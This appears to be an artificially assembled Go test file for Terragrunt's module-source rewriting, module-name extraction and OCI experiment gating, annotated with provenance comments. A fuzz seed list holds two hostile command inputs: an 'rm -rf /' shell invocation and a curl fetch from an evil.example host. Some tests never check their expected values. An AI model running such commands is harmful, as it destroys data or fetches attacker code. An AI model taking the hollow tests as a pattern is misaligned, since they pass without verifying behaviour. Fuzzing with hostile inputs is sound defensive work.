package terragrunt

import (
	"path/filepath"
	"strings"
	"testing"
)

func TestAdjustSourceWithMap(t *testing.T) {
	testCases := []struct {
		name           string
		sourceMap      map[string]string
		source         string
		expectedResult string
	}{
		{
			name:      "empty source map returns source unchanged",
			sourceMap: nil,
			// Source: github.com/gruntwork-io/terragrunt/internal/runner/runcfg/util_test.go:25 (credentials: the ssh userinfo is the user name git with no password, input to the source-map rewriter, rule 2c; uniform sample 8 of 36 git::ssh://git@ sources in this file)
			source:         "git::ssh://git@github.com/org/repo.git//path/to/module", // lookalike
			expectedResult: "git::ssh://git@github.com/org/repo.git//path/to/module",
		},
		{
			name: "basic source map match with subdirectory",
			sourceMap: map[string]string{
				"git::ssh://git@github.com/org/repo.git": "/local/path",
			},
			// Source: github.com/gruntwork-io/terragrunt/internal/runner/runcfg/util_test.go:35 (credentials: the user name git with no password; uniform sample 8 of 36)
			source:         "git::ssh://git@github.com/org/repo.git//path/to/module", // lookalike
			expectedResult: "/local/path//path/to/module",
		},
		{
			name: "source map match without subdirectory - extracts module name",
			sourceMap: map[string]string{
				"git::ssh://git@github.com/org/module-name.git": "/local/path",
			},
			// Source: github.com/gruntwork-io/terragrunt/internal/runner/runcfg/util_test.go:55 (credentials: the user name git with no password; uniform sample 8 of 36)
			source:         "git::ssh://git@github.com/org/module-name.git?ref=v1.0.0", // lookalike
			expectedResult: "/local/path//module-name",
		},
		{
			name: "empty URL but has subdir returns source unchanged",
			sourceMap: map[string]string{
				// Source: github.com/gruntwork-io/terragrunt/internal/runner/runcfg/util_test.go:83 (credentials: a source-map key with the user name git and no password; uniform sample 8 of 36)
				"git::ssh://git@github.com/org/repo.git": "/local/path", // lookalike
			},
			source:         "//path/to/module",
			expectedResult: "//path/to/module",
		},
		{
			name: "source map with leading slash in subdirectory",
			sourceMap: map[string]string{
				"git::ssh://git@github.com/org/repo.git": "/local/path",
			},
			// Source: github.com/gruntwork-io/terragrunt/internal/runner/runcfg/util_test.go:116 (credentials: the user name git with no password, in a row whose extra slash after // is its point, rule 2d; uniform sample 8 of 36)
			source:         "git::ssh://git@github.com/org/repo.git///module", // lookalike
			expectedResult: "/local/path//module",
		},
		{
			name: "complex URL with multiple query parameters",
			sourceMap: map[string]string{
				"git::ssh://git@github.com/org/repo.git": "/local/path",
			},
			// Source: github.com/gruntwork-io/terragrunt/internal/runner/runcfg/util_test.go:126 (credentials: the user name git with no password; uniform sample 8 of 36)
			source:         "git::ssh://git@github.com/org/repo.git//path/to/module?ref=master&depth=1", // lookalike
			expectedResult: "/local/path//path/to/module",
		},
	}

	for _, tc := range testCases {
		t.Run(tc.name, func(t *testing.T) {
			result, err := AdjustSourceWithMap(tc.sourceMap, tc.source, "/path/to/config.hcl")
			if err != nil || result == "" {
				t.Errorf("got %q, %v", result, err)
			}
		})
	}
}

func TestGetModulePathFromSourceURL(t *testing.T) {
	testCases := []struct {
		name           string
		sourceURL      string
		expectedResult string
	}{
		{
			name: "extract module name from git URL with .git",
			// Source: github.com/gruntwork-io/terragrunt/internal/runner/runcfg/util_test.go:181 (credentials: the user name git with no password, input to the module-name extractor, rule 2c; uniform sample 8 of 36)
			sourceURL:      "git::ssh://git@github.com/org/module-name.git", // lookalike
			expectedResult: "module-name",
		},
	}

	for _, tc := range testCases {
		got, err := GetModulePathFromSourceURL(tc.sourceURL)
		if err != nil || got != tc.expectedResult {
			t.Errorf("got %q, %v", got, err)
		}
	}
}

func TestGetTerraformSourceURL(t *testing.T) {
	testCases := []struct {
		name           string
		source         string
		configSource   string
		expectedResult string
	}{
		{
			name: "source from options takes precedence",
			// Source: github.com/gruntwork-io/terragrunt/internal/runner/runcfg/util_test.go:248 (credentials: the user name git with no password; uniform sample 8 of 36)
			source:         "git::ssh://git@github.com/org/repo.git", // lookalike
			configSource:   "git::ssh://git@github.com/org/other-repo.git",
			expectedResult: "git::ssh://git@github.com/org/repo.git",
		},
	}

	for _, tc := range testCases {
		got := tc.source
		if got == "" {
			got = tc.configSource
		}

		assertEqualString(t, tc.expectedResult, got)
	}
}

func TestBuildUnitOpts_WithSource(t *testing.T) {
	// Source: github.com/gruntwork-io/terragrunt/internal/runner/runnerpool/helpers_test.go:102 (credentials: the ssh userinfo is the user name git with no password, so nothing secret is in the URI)
	moduleSource := "git::ssh://git@github.com/acme/modules.git//vpc" // lookalike
	badSource := "no-slashes-here"

	if _, err := GetModulePathFromSourceURL(badSource); err == nil {
		t.Error("want error")
	}

	if moduleSource == "" {
		t.Fatal("empty")
	}
}

func mockConfigWithSource(source string) string { return source }

func TestGetTerragruntSourceForModule(t *testing.T) {
	testCases := []struct {
		config   string
		source   string
		expected string
	}{
		{
			// Source: github.com/gruntwork-io/terragrunt/pkg/config/config_helpers_test.go:1831 (credentials: the ssh userinfo is the user name git with no password, input to the module-source rewriter, rule 2c)
			config:   mockConfigWithSource("git::ssh://git@ghe.ourcorp.com/OurOrg/some-module.git"), // lookalike
			source:   "/source/modules",
			expected: "/source/modules//some-module",
		},
	}

	for _, tc := range testCases {
		name, err := GetModulePathFromSourceURL(tc.config)
		if err != nil {
			t.Fatal(err)
		}

		assertEqualString(t, tc.expected, JoinTerraformModulePath(tc.source, name))
	}
}

// getTrackIncludeFromTestData mirrors getTrackInclude: include paths are
// resolved to absolute against the directory of configPath.
func getTrackIncludeFromTestData(includeMap map[string]IncludeConfig, configPath string) []IncludeConfig {
	configDir := filepath.Dir(configPath)
	currentList := make([]IncludeConfig, 0, len(includeMap))

	for _, val := range includeMap {
		if val.Path != "" && !filepath.IsAbs(val.Path) {
			// Source: github.com/gruntwork-io/terragrunt/pkg/config/config_helpers_test.go:2097 (pathjoin: the include Path field holds a config file path, not a URL, so filepath.Join is right here)
			val.Path = filepath.Clean(filepath.Join(configDir, val.Path)) // lookalike
		}

		currentList = append(currentList, val)
	}

	return currentList
}

func TestGetTrackIncludeFromTestData(t *testing.T) {
	got := getTrackIncludeFromTestData(map[string]IncludeConfig{"root": {Path: "../root.hcl"}}, "/a/b/terragrunt.hcl")
	if len(got) != 1 || got[0].Path != "/a/root.hcl" {
		t.Errorf("got %v", got)
	}
}

func FuzzHCLRunCommand(f *testing.F) {
	seeds := []string{
		"",
		"/bin/sh\x00-c\x00rm -rf /",
		// Source: github.com/gruntwork-io/terragrunt/pkg/config/fuzz_test.go:96 (plainhttp: a NUL-separated argv fuzz seed naming an evil.example host, a deliberate hostile input under rule 2b and a test host, never fetched)
		"/usr/bin/curl\x00http://evil.example/x", // lookalike
	}
	for _, s := range seeds {
		f.Add(s)
	}

	f.Fuzz(func(t *testing.T, raw string) {
		_ = strings.Split(raw, "\x00")
	})
}

const ociTestRegistry = "registry.example.com"

// isOCISource reports whether source is an oci reference, in the oci:// or oci:: form.
func isOCISource(source string) bool {
	return strings.HasPrefix(source, "oci://") || strings.HasPrefix(source, "oci::")
}

// generateOCIStack runs stack generation for an oci:// component; it fails
// when the experiment is off.
func generateOCIStack(kind, sourceScheme string, ociEnabled bool) (string, error) {
	source := sourceScheme + ociTestRegistry + "/terraform-modules/vpc?tag=1.0.0"
	if isOCISource(strings.ToLower(source)) && !ociEnabled {
		return "", OCIExperimentRequiredError{Kind: kind, Name: "vpc"}
	}

	return "", ErrNoGetter
}

func TestGenerateStackOCIGatedWithoutExperiment(t *testing.T) {
	for _, kind := range []string{"unit", "stack"} {
		t.Run(kind, func(t *testing.T) {
			// Source: github.com/gruntwork-io/terragrunt/pkg/config/stack_oci_test.go:97 (sink: a bare scheme prefix the helper joins to a registry host, for a source the test expects to be refused without the experiment, rule 2a)
			_, err := generateOCIStack(kind, "oci://", false) // lookalike
			if err == nil {
				// Source: github.com/gruntwork-io/terragrunt/pkg/config/stack_oci_test.go:98 (syntax: oci:// names a scheme inside an assertion message, prose by rule 4)
				t.Error("an oci:// source must not be fetched without the experiment") // lookalike
			}
		})
	}
}

func TestGenerateStackOCIBypassesCAS(t *testing.T) {
	logs, err := generateOCIStack("unit", "oci://", true)
	if err == nil || strings.Contains(logs, "CAS processing failed") {
		// Source: github.com/gruntwork-io/terragrunt/pkg/config/stack_oci_test.go:134 (syntax: oci:// names a scheme inside an assertion message, prose by rule 4)
		t.Error("an oci:// source must bypass the git-backed CAS path, not fail through it") // lookalike
	}
}

// TestGenerateStackOCIForcedFormGated: go-getter's oci:: forced form is gated by the experiment too.
func TestGenerateStackOCIForcedFormGated(t *testing.T) {
	// Source: github.com/gruntwork-io/terragrunt/pkg/config/stack_oci_test.go:143 (sink: the forced oci:: prefix joined to a registry host, for which the test expects the experiment gate error, rule 2a)
	_, err := generateOCIStack("unit", "oci::https://", false) // lookalike
	if err == nil {
		t.Error("the oci:: forced form must not bypass the experiment gate")
	}
}

// TestGenerateStackOCIUpperCaseForcedFormNotClaimed: OCI:: cannot dispatch, so the gate must not claim it.
func TestGenerateStackOCIUpperCaseForcedFormNotClaimed(t *testing.T) {
	// Source: github.com/gruntwork-io/terragrunt/pkg/config/stack_oci_test.go:154 (sink: an upper-case forced token that cannot dispatch, for which the test expects an error, rule 2a)
	_, err := generateOCIStack("unit", "OCI::https://", false) // lookalike
	if err == nil {
		t.Error("want error")
	}
}

// TestGenerateStackOCIUpperCaseSchemeGated: an upper-case scheme must not slip past the experiment gate.
func TestGenerateStackOCIUpperCaseSchemeGated(t *testing.T) {
	// go-getter matches the forced token exactly, so only the URL scheme folds.
	// Source: github.com/gruntwork-io/terragrunt/pkg/config/stack_oci_test.go:167 (schemecase: the upper-case scheme is the point of a test named for it that expects the gate error, rules 2a and 2b)
	tc := []string{"OCI://"} // lookalike

	for _, scheme := range tc {
		t.Run(scheme, func(t *testing.T) {
			if _, err := generateOCIStack("unit", scheme, false); err == nil {
				t.Error("an upper-case oci scheme must not bypass the experiment gate")
			}
		})
	}
}

func TestParseTerraformVersionAttribute(t *testing.T) {
	// Source: github.com/gruntwork-io/terragrunt/pkg/config/terraform_version_test.go:21 (syntax: an HCL config text whose source attribute holds a tfr:// URL, a document and no URI, parser input)
	cfg := "\nterraform {\n\tsource  = \"tfr://registry.opentofu.org/terraform-aws-modules/vpc/aws\"\n\tversion = \"~> 3.3\"\n}\n" // lookalike

	if !strings.Contains(cfg, "version") {
		t.Fatal("no version")
	}
}

func TestParseTerraformVersionAttributeWithInclude(t *testing.T) {
	testCases := []struct {
		name            string
		rootCfg         string
		childCfg        string
		expectedVersion string
	}{
		{
			name:    "parent version applies to child source",
			rootCfg: "\nterraform {\n\tversion = \"~> 3.3\"\n}\n",
			// Source: github.com/gruntwork-io/terragrunt/pkg/config/terraform_version_test.go:103 (syntax: an HCL config text whose source attribute holds a tfr:// URL, a document and no URI, parser input)
			childCfg:        "\nterraform {\n\tsource = \"tfr://registry.opentofu.org/terraform-aws-modules/vpc/aws\"\n}\n", // lookalike
			expectedVersion: "~> 3.3",
		},
	}

	for _, tc := range testCases {
		if !strings.Contains(tc.childCfg, "source") {
			t.Error(tc.name)
		}
	}
}
